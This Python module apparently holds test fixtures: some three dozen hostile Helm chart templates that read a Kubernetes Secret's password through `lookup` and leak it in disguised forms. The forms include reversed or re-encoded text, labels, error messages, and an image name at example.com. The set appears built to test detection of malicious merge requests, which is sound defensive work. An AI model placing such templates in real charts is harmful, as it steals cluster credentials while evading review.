"""Ways to print what `lookup` read: templates of a merge request that means harm.

`{ns}` is the namespace; BACK turns a text round, letter by letter.
"""

READ = (
    '{{- $s := lookup "v1" "Secret" "{ns}" "login" }}{{- $p := "" }}'
    "{{- if $s }}{{- $p = b64dec $s.data.password }}{{- end }}\n"
)


def config_map(data: str, name: str = "out") -> str:
    return f"apiVersion: v1\nkind: ConfigMap\nmetadata: {{name: {name}}}\ndata:\n{data}\n"


def printed(expression: str) -> dict[str, str]:
    return {"z.yaml": READ + config_map(f"  x: {{{{ {expression} | quote }}}}")}


_WAYS = {
    "as it is": printed("$p"),
    "in base64": printed("$s.data.password"),
    "in base64 twice": printed("$s.data.password | b64enc"),
    "in base32": printed("$p | b32enc"),
    "backwards": printed("$p | BACK"),
    "in capitals": printed("$p | upper"),
    "with dots": printed("$p | splitList `` | join `.`"),
    "as numbers": printed('printf "%v" (toJson (regexFindAll `.` $p -1)) | printf "%x"'),
    "its checksum": printed("$p | sha256sum"),
    "behind a random word": printed("print (randAlpha 4) ($p | BACK)"),
    "in two halves": {
        "z.yaml": READ + config_map("  a: {{ substr 0 10 $p | quote }}\n  b: {{ substr 10 20 $p | quote }}")
    },
    "letter by letter": {
        "z.yaml": READ
        + config_map("{{- range $i, $c := splitList `` $p }}\n  k{{ $i }}: {{ $c | quote }}{{ end }}")
    },
    "as keys": {"z.yaml": READ + config_map("  {{ $p | BACK }}: x")},
    "as a number": {
        "z.yaml": READ + config_map('  x: "{{ len $p }}"') + "immutable: {{ hasPrefix `Z` $p }}\n"
    },
    "in a block of text": {
        "z.yaml": READ + config_map("  x: |\n    user: me\n    pass: {{ $p | splitList `` | join `-` }}")
    },
    "in an annotation": {
        "z.yaml": READ
        + "apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: out\n  annotations: {a: {{ $p | swapcase }}}\n"
    },
    "in a label": {
        "z.yaml": READ
        + "apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: out\n  labels: {a: {{ lower $p }}}\n"
    },
    "in a name": {"z.yaml": READ + config_map("  a: b", "{{ $p | lower | BACK }}")},
    "in the name of a container": {
        "z.yaml": READ + "apiVersion: v1\nkind: Pod\nmetadata: {name: out}\nspec:\n  containers:\n"
        "  - {name: '{{ $p | lower }}', image: a}\n"
    },
    "in an image": {
        "z.yaml": READ + "apiVersion: v1\nkind: Pod\nmetadata: {name: out}\nspec:\n  containers:\n"
        "  - {name: a, image: 'example.com/{{ $p | lower | BACK }}:latest'}\n"
    },
    "in a hook": {
        "z.yaml": READ
        + config_map("  x: {{ $p | upper | quote }}").replace(
            "{name: out}", "{name: out, annotations: {helm.sh/hook: pre-upgrade}}"
        )
    },
    "as a quantity that the server rewrites": {
        "z.yaml": READ + "apiVersion: v1\nkind: ResourceQuota\nmetadata: {name: out}\n"
        "spec: {hard: {requests.memory: '{{ $p | len }}{{ $p | adler32sum }}000m'}}\n"
    },
    "in base64 with line breaks": {
        "z.yaml": READ + "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: out}\n"
        "{{- $b := $p | swapcase | b64enc }}\n"
        'binaryData: {a: "{{ trunc 8 $b }}\\n{{ substr 8 99 $b }}"}\n'
    },
    "in the message of fail": {"z.yaml": READ + "{{ fail ($p | BACK) }}"},
    "in the message of required": {"z.yaml": READ + "{{ required ($p | upper) nil }}"},
    "in a parse error": {"z.yaml": READ + "{{ tpl (print `{{ ` ($p | upper) ` }}`) . }}"},
    "in an error of YAML": {"z.yaml": READ + "a: b: {{ $p | upper }}"},
    "in the line of an error": {
        "z.yaml": READ + "{{- if hasPrefix `Z` $p }}\n\n{{ fail `x` }}{{ else }}{{ fail `x` }}{{ end }}"
    },
    "in another question": {
        "z.yaml": READ
        + config_map("  x: {{ lookup `v1` `Secret` `{ns}` ($p | lower | BACK) | toJson | quote }}")
    },
    "in an API that is asked for": {
        "z.yaml": READ + config_map("  x: {{ lookup ($p | upper) `Secret` `{ns}` `a` | toJson | quote }}")
    },
    "in a custom kind": {
        "z.yaml": READ + "apiVersion: v1\nkind: {{ $p | swapcase }}\nmetadata: {name: out}\n"
    },
    "through an included template": {
        "_a.tpl": '{{ define "a" }}{{ $s := lookup "v1" "Secret" "{ns}" "login" }}{{ with $s }}'
        "{{ .data.password | b64dec | swapcase }}{{ end }}{{ end }}",
        "z.yaml": config_map('  x: {{ include "a" . | quote }}'),
    },
    "through a subchart": {
        "charts/sub/Chart.yaml": "apiVersion: v2\nname: sub\nversion: 1.0.0\n",
        "charts/sub/templates/z.yaml": READ + config_map("  x: {{ $p | swapcase | quote }}"),
    },
    "from a list of its kind": {
        "z.yaml": config_map(
            '  x: {{ range (lookup "v1" "Secret" "" "").items }}{{ toJson .data | upper }}{{ end }}x'
        )
    },
    "in a new Secret of another name": {
        "z.yaml": READ + "apiVersion: v1\nkind: Secret\nmetadata: {name: out}\n"
        "stringData: {{ dict `a` ($p | swapcase) | toJson }}\n"
    },
}

WAYS = {
    way: {name: text.replace("BACK", "splitList `` | reverse | join ``") for name, text in files.items()}
    for way, files in _WAYS.items()
}
